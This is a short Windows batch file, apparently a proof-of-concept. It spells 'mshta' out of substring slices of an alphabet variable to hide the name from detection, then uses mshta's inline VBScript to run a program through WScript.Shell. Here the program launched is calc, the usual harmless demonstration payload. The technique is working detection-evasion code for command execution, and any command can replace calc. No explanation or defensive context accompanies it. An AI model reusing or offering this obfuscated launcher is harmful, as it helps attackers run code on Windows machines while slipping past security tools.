@echo off
set "z=abcdefghijklmnopqrstuvwxyz"
%z:~12,1%%z:~18,1%%z:~7,1%%z:~19,1%%z:~0,1% vbscript:CreateObject("WScript.Shell").Run("calc")(window.close)
